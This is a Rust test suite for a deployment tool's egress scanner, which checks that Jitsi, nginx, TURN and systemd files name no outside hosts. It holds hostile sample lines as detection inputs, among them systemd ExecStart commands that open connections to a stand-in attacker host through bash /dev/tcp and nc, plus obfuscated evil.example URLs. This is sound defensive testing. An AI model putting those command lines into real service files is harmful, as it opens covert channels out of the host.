//! The egress policy: what the program renders passes, and a foreign name is found wherever somebody puts it.

#![allow(clippy::unwrap_used, clippy::panic, missing_docs)]

mod support;

use proptest::prelude::*;
use std::time::Instant;
use vc4all_deploy::model::alerts::{Alerts, MailRoute, MailServer, Webhook, WebhookAddress};
use vc4all_deploy::model::deployment::Deployment;
use vc4all_deploy::model::egress::{Asked, Asker, EgressList};
use vc4all_deploy::model::identity::Recipient;
use vc4all_deploy::model::resource::Claim;
use vc4all_deploy::model::tls::{Authority, Hook, OtherAuthority};
use vc4all_deploy::model::traits::Release;
use vc4all_deploy::model::values::{CountryCode, Email, Line, WebAddress};
use vc4all_deploy::papers;
use vc4all_deploy::policy::instance::Instance;
use vc4all_deploy::policy::{self, Offence, Page, Scanner, pages};
use vc4all_deploy::render::Renderer;

/// One rendered deployment with what judges it.
struct Stage {
    name: String,
    instance: Instance,
    list: EgressList,
    claims: Vec<Claim>,
}

impl Stage {
    fn of(name: &str, deployment: &Deployment, release: Release, renderer: &Renderer) -> Self {
        Self {
            name: format!("{name} on {release}"),
            instance: Instance::of(deployment, &support::fresh(deployment, release)),
            list: papers::egress::list(deployment, release),
            claims: support::claims(renderer, deployment, release),
        }
    }

    fn judge(&self, path: &str, text: &str) -> Vec<Offence> {
        Scanner::new(&self.instance, &self.list).scan(Page { shown: path, path, text })
    }
}

fn stages() -> Vec<Stage> {
    let renderer = Renderer::new().unwrap();
    let mut all = Vec::new();
    for (name, deployment) in support::deployments() {
        all.extend(Release::ALL.map(|release| Stage::of(&name, &deployment, release, &renderer)));
    }
    all
}

fn stage(name: &str) -> Stage {
    let deployment = support::deployments().into_iter().find(|(known, _)| known == name).unwrap().1;
    Stage::of(name, &deployment, Release::Debian12, &Renderer::new().unwrap())
}

fn named(offences: &[Offence]) -> Vec<&str> {
    offences.iter().map(|offence| offence.named.as_str()).collect()
}

#[test]
fn every_rendered_file_passes() {
    let mut wrong = Vec::new();
    for stage in stages() {
        if let Err(offences) = policy::check(&stage.instance, &stage.list, pages(&stage.claims)) {
            wrong.push(format!("{}:\n{offences}", stage.name));
        }
        assert!(pages(&stage.claims).count() > 40, "{}", stage.name);
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn looking_takes_time_as_the_text_is_long() {
    let stage = stage("example");
    // Less would be read before a clock can tell.
    assert!(pages(&stage.claims).map(|page| page.text.len()).sum::<usize>() > 100_000);
    let fastest = |times: usize| {
        let texts: Vec<_> = pages(&stage.claims).map(|page| (page, page.text.repeat(times))).collect();
        let tries = (0..5).map(|_| {
            let long = texts.iter().map(|(page, text)| Page { text, ..*page });
            let begin = Instant::now();
            policy::check(&stage.instance, &stage.list, long).unwrap();
            begin.elapsed()
        });
        tries.min().unwrap()
    };
    let (once, four_times) = (fastest(1), fastest(4));
    println!("{once:?}, and {four_times:?} for four times as much");
    // How fast a machine is does not count; what looks back at each step would take sixteen times as long.
    assert!(four_times < once * 8, "{once:?}, {four_times:?}");
}

/// A file of each kind, in which a stranger can hide in its own way.
const KINDS: [&str; 8] = [
    "/etc/jitsi/meet/vergaderen.voorbeeldstad.nl-config.js",
    "/etc/prosody/conf.avail/vergaderen.voorbeeldstad.nl.cfg.lua",
    "/etc/jitsi/jicofo/jicofo.conf",
    "/etc/nginx/sites-available/vergaderen.voorbeeldstad.nl.conf",
    "/usr/local/share/vc4all/www/nl/index.html",
    "/usr/local/share/vc4all/www/vc4all/style.css",
    "/etc/turnserver.conf",
    "/etc/systemd/system/jicofo.service.d/vc4all.conf",
];

#[test]
fn strangers_are_refused_with_the_reason() {
    let stage = stage("example");
    for (host, reason) in [
        ("meet-jit-si-turnrelay.jitsi.net", "STUN or TURN server of somebody else: it is told the address of every"),
        ("stun.l.google.com", "STUN or TURN server"),
        ("web-cdn.jitsi.net", "another meeting service"),
        ("jaas.8x8.vc", "another meeting service"),
        ("api.8x8.com", "another meeting service"),
        ("www.gravatar.com", "an avatar service: it is told a fingerprint of each participant's mail address"),
        ("api2.amplitude.com", "an analytics service: it is told who meets when"),
        ("api.callstats.io", "an analytics service"),
        ("www.google-analytics.com", "an analytics service"),
        ("apis.google.com", "a calendar service"),
        ("graph.microsoft.com", "a calendar service"),
        ("i.giphy.com", "moving pictures"),
        ("www.dropbox.com", "recordings of a meeting leave the host"),
        ("www.youtube.com", "a video site"),
        ("fonts.gstatic.com", "can change what the page does"),
        ("cdn.jsdelivr.net", "borrowed fonts and scripts"),
        ("tracker.example", "nobody on the egress list"),
        ("intranet", "nobody on the egress list"),
        ("134744072", "nobody on the egress list"),
    ] {
        for path in KINDS {
            let found = stage.judge(path, &format!("first\n  x = \"https://{host}/y\";\n"));
            assert_eq!(named(&found), [host], "{path}");
            assert_eq!((found[0].line, found[0].column), (2, 16), "{path}: {host}");
            assert!(found[0].what.contains(reason), "{}", found[0].what);
        }
    }
}

#[test]
fn a_stranger_is_seen_in_any_clothes() {
    let stage = stage("example");
    for text in [
        "p2p: { stunServers: [{ urls: 'stun:evil.example:3478' }] }",
        "x = 'turns:EVIL.Example:443?transport=tcp'",
        "x = \"//evil.example/a.js\"",
        "x = `//evil.example/a.js`",
        "@import url(//evil.example/a.css);",
        "x = 'https:\\/\\/evil.example\\/'",
        "x = 'https:/evil.example/'",
        "x = 'https:evil.example'",
        "x = 'https:////evil.example'",
        "x = 'https:\\\\evil.example'",
        "x = 'https://vergaderen.voorbeeldstad.nl@evil.example/'",
        "x = 'https://vergaderen.voorbeeldstad.nl:443@evil.example'",
        "x = 'wss://*.evil.example'",
        "x = 'a@evil.example'",
        "x = 'https%3A%2F%2Fevil.example%2F'",
        "x = \"\\nevil.example\"",
        "x = 'evil。example'",
        "/* see evil.example. */",
        "x = 'vergaderen.voorbeeldstad.nl.evil.example'",
        "x = 'https://vergaderen.voorbeeldstad.nl.evil.example'",
        "x = 'evil.vergaderen.voorbeeldstad.nl'",
        "x = 'xvergaderen.voorbeeldstad.nl'",
        "x = '8.8.8.8'",
        "x = '8.8.8.8-8.8.4.4'",
        "x = 'https://8.8.8.8:53/'",
        "x = '2a01:4f8::1'",
        "x = '[2A01:4F8::1]:443'",
        "x = 'https://[2a01:4f8::1]:443/'",
        "x = 'add:2a01:4f8::1.'",
        "x = 'addr:2a01:4f8::1'",
        "x = '::ffff:8.8.8.8'",
        "x = 'https://' + 'evil' + '.example'",
        "x = `https://${evil}/`",
    ] {
        assert!(!stage.judge(KINDS[0], text).is_empty(), "{text}");
    }
    for text in [
        "if (event.room.name && Date.now) { list.map(x => x.link) }",
        "hosts: { domain: 'vergaderen.voorbeeldstad.nl', muc: 'conference.vergaderen.voorbeeldstad.nl' }",
        "x = 'https://vergaderen.voorbeeldstad.nl:443/a.js?b=c.d#e'",
        "x = 'version 1.2.3, 1.2.840.113549, 10.0.0.1, 192.0.2.1, ::1, fd00::1, 2001:db8::7, 12:34:56, aa:bb:cc:dd:ee:ff'",
        "x = 'prosody.cfg.lua org.jitsi.videobridge style.css /etc/evil.example'",
        "li::before { a.link.open: now } // see: https://vergaderen.voorbeeldstad.nl.",
    ] {
        assert_eq!(named(&stage.judge(KINDS[0], text)), Vec::<&str>::new(), "{text}");
    }
}

#[test]
fn configuration_is_read_as_configuration() {
    let stage = stage("example");
    for (path, text) in [
        (KINDS[2], "videobridge.http-servers.public.host = localhost\na.name { b.info += 1 }"),
        (KINDS[3], "return 301 https://$host$request_uri; proxy_pass http://vc4all_door; root /srv/evil.example;"),
        (KINDS[7], "After=network-online.target\nWants=multi-user.target\nExecStart=/bin/sh apply.sh"),
        (KINDS[6], "denied-peer-ip=0.0.0.0-255.255.255.255\ndenied-peer-ip=::-ffff:ffff:ffff:ffff:ffff:ffff:ffff:ffff"),
    ] {
        assert_eq!(named(&stage.judge(path, text)), Vec::<&str>::new(), "{text}");
    }
    for (path, text) in [
        (KINDS[2], "host = evil.example"),
        (KINDS[3], "proxy_pass https://$arg_to/; resolver 8.8.8.8;"),
        (KINDS[3], "return 301 https://vergaderen.voorbeeldstad.nl$arg_to;"),
        (KINDS[7], "ExecStart=/bin/bash -c 'echo > /dev/tcp/evil.example/80'"),
        (KINDS[7], "ExecStart=nc evil.sh.example 80"),
        (KINDS[4], "<img src=//evil.example/x.png>"),
        (KINDS[6], "external-ip=8.8.8.8"),
    ] {
        assert!(!stage.judge(path, text).is_empty(), "{text}");
    }
}

#[test]
fn a_browser_may_not_ask_whom_only_the_host_asks() {
    let stage = stage("example");
    let script = "<script src=\"https://download.jitsi.org/x.js\"></script>";
    let found = stage.judge(KINDS[4], script);
    assert!(found[0].what.contains("for the host alone"), "{found:?}");
    assert!(stage.judge("/etc/apt/sources.list.d/x.sources", "URIs: https://download.jitsi.org/").is_empty());
    assert!(stage.judge(KINDS[4], "the time comes from ntp.time.nl").is_empty());
    assert!(!stage.judge(KINDS[0], "x = 'stun:ntp.time.nl:3478'").is_empty());
}

#[test]
fn what_is_named_is_named_whole_and_nothing_more() {
    let stage = stage("voorbeeldstad");
    let free = |text: &str| stage.judge(KINDS[4], text).is_empty();
    assert!(free("<a href=\"https://www.voorbeeldstad.nl\">https://www.voorbeeldstad.nl</a>"));
    assert!(!free("<script src=\"https://www.voorbeeldstad.nl/x.js\">"));
    assert!(!free("<img src=\"https://www.voorbeeldstad.nl.evil.example\">"));
    assert!(free("write to privacy@voorbeeldstad.nl."));
    assert!(!free("<img src=\"https://voorbeeldstad.nl/\">"));
    assert!(!free("<img src=\"https://privacy@voorbeeldstad.nl/\">"));
    assert!(free("<svg xmlns=\"http://www.w3.org/2000/svg\">"));
    assert!(!free("<img src=\"http://www.w3.org/2000/svg/x.png\">"));
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 12, failure_persistence: None, ..ProptestConfig::default() })]

    /// Two hundred places in files of a deployment at a time.
    #[test]
    fn a_foreign_address_is_found_wherever_it_is_put(seeds in prop::collection::vec(any::<(u32, u32)>(), 200)) {
        let stage = stage("keycloak");
        let all: Vec<Page<'_>> = pages(&stage.claims).collect();
        let scanner = Scanner::new(&stage.instance, &stage.list);
        for (which, place) in seeds {
            let page = all[which as usize % all.len()];
            let mut at = place as usize % (page.text.len() + 1);
            while !page.text.is_char_boundary(at) {
                at -= 1;
            }
            let text = format!("{}https://tracker.example/x{}", &page.text[..at], &page.text[at..]);
            let found = scanner.scan(Page { text: &text, ..page });
            let seen = found.iter().any(|offence| offence.named == "tracker.example");
            prop_assert!(seen, "{} at byte {at}: {found:?}", page.path);
        }
    }

    /// Whatever stands in a file, judging it ends, and a place is a place of the file.
    #[test]
    fn any_text_can_be_judged(text in "(\\PC|[/:.$@%\\n\\\\\"'`]|https://|nl|::){0,300}", which in 0..KINDS.len()) {
        for offence in stage("example").judge(KINDS[which], &text) {
            prop_assert!(offence.line <= text.split('\n').count() && offence.column >= 1);
            prop_assert!(!offence.named.chars().any(char::is_control));
        }
    }
}

/// Those of the list who are asked by this asker, as `host:port operator country`.
fn asked_by(list: &EgressList, asker: Asker) -> Vec<String> {
    let by = list.asked.iter().filter(|asked| asked.asker == asker);
    let country = |asked: &Asked| asked.country.as_ref().map_or_else(|| "?".to_owned(), ToString::to_string);
    by.map(|asked| format!("{}:{} {} {}", asked.host, asked.port, asked.operator, country(asked))).collect()
}

/// What is on the list of the second deployment, and not on that of the first.
fn more(before: &Deployment, after: &Deployment, asker: Asker) -> Vec<String> {
    let list = |deployment| asked_by(&papers::egress::list(deployment, Release::Debian12), asker);
    let known = list(before);
    list(after).into_iter().filter(|row| !known.contains(row)).collect()
}

fn example() -> Deployment {
    support::deployments().into_iter().find(|(known, _)| known == "example").unwrap().1
}

fn recipient(operator: &str, country: &str) -> Recipient {
    Recipient { operator: Line::parse(operator).unwrap(), country: CountryCode::parse(country).unwrap() }
}

#[test]
fn the_authority_is_asked_by_host_and_operator_and_rehearsals_by_the_host() {
    let list = papers::egress::list(&example(), Release::Debian12);
    let isrg = "Internet Security Research Group (Let's Encrypt) US";
    let (host, operator) = (asked_by(&list, Asker::Host), asked_by(&list, Asker::Operator));
    assert_eq!(operator, [format!("acme-v02.api.letsencrypt.org:443 {isrg}")]);
    assert!(host.contains(&operator[0]), "{host:?}");
    assert!(host.contains(&format!("acme-staging-v02.api.letsencrypt.org:443 {isrg}")), "{host:?}");
    let browser = asked_by(&list, Asker::Browser);
    assert_eq!(browser, [format!("*.c.lencr.org:80 {isrg}"), format!("*.i.lencr.org:80 {isrg}")]);
}

#[test]
fn another_authority_is_named_with_who_runs_it_also_where_its_certificates_lead_browsers() {
    let mut other = example();
    let directory = |text: &str| WebAddress::parse(text).unwrap();
    other.tls.authority = Authority::Other(OtherAuthority {
        staging: Some(directory("https://test.example.org/dir")),
        recipient: Some(recipient("Example CA", "US")),
        directory: directory("https://acme.example.org:14000/dir"),
        root: None,
        caa: Vec::new(),
    });
    let (host, rehearsal) = ("acme.example.org:14000 Example CA US", "test.example.org:443 Example CA US");
    assert_eq!(more(&example(), &other, Asker::Host), [host, rehearsal]);
    assert_eq!(more(&example(), &other, Asker::Operator), [host]);
    assert_eq!(more(&example(), &other, Asker::Browser), ["(the addresses in the certificate):80 Example CA US"]);
    other.tls.authority = Authority::other(directory("https://acme.example.org/dir"));
    let unknown = "acme.example.org:443 whoever runs acme.example.org ?";
    assert_eq!(more(&example(), &other, Asker::Host), [unknown], "one entry for orders and rehearsals");
}

#[test]
fn who_hears_of_failures_is_named_and_no_part_of_a_secret_address() {
    let mut told = example();
    told.alerts = Alerts {
        webhook: Some(Webhook {
            file: "/tmp/webhook".into(),
            address: Some(WebhookAddress::parse("https://chat.example.org:8443/hooks/t0ken").unwrap()),
            recipient: recipient("Stichting Voorbeeld", "NL"),
        }),
        mail: Some(MailRoute {
            to: Email::parse("beheer@post.example.org").unwrap(),
            from: Email::parse("meet@mail.example.org").unwrap(),
            server: MailServer::parse("smtp.example.org:587").unwrap(),
            login: None,
            recipient: recipient("Postbedrijf", "DE"),
        }),
    };
    let both = ["chat.example.org:8443 Stichting Voorbeeld NL", "smtp.example.org:587 Postbedrijf DE"];
    assert_eq!(more(&example(), &told, Asker::Host), both);
    let list = papers::egress::list(&told, Release::Debian12);
    assert!(!format!("{list:?}").contains("t0ken"));
    let mails = list.named.iter().filter(|named| named.text.ends_with("example.org"));
    assert_eq!(mails.map(|named| named.text.as_str()).collect::<Vec<_>>(), ["mail.example.org", "post.example.org"]);
}

#[test]
fn whom_a_dns_hook_names_is_listed_and_whom_it_puts_together_is_refused() {
    let mut own = example();
    let hook = "#!/bin/sh\n# Questions: dns@voorbeeld.example.org\n\
                curl -s \"https://api.example.org/v1/$1\"\nnsupdate <<END\nserver ns1.example.net\nEND\n\
                ping -c 1 127.0.0.1 9.9.9.9\n";
    own.tls.hook = Some(Hook { path: "/tmp/hook".into(), text: hook.to_owned(), secrets: None });
    let whom = "whoever runs the DNS of these names; the operator chose them ?";
    let mut seen = more(&example(), &own, Asker::Host);
    seen.sort();
    assert_eq!(
        seen,
        [
            format!("(the name servers of the certificate's names):53 {whom}"),
            format!("(whom the program of tls.dns_hook asks besides):443 {whom}"),
            format!("9.9.9.9:53 {whom}"),
            format!("api.example.org:443 {whom}"),
            format!("ns1.example.net:53 {whom}"),
        ]
    );
    let judged = |text: &str| {
        let list = papers::egress::list(&own, Release::Debian12);
        let instance = Instance::of(&own, &support::fresh(&own, Release::Debian12));
        let path = "/usr/local/lib/vc4all/hooks/dns";
        Scanner::new(&instance, &list).scan(Page { shown: path, path, text })
    };
    assert!(judged(hook).is_empty(), "{:?}", judged(hook));
    assert_eq!(named(&judged(&hook.replace("api.example.org", "evil.example.org"))), ["evil.example.org"]);
    assert_eq!(named(&judged("#!/bin/sh\ncurl \"https://$HOST/x\"\n")), ["://…"]);
}
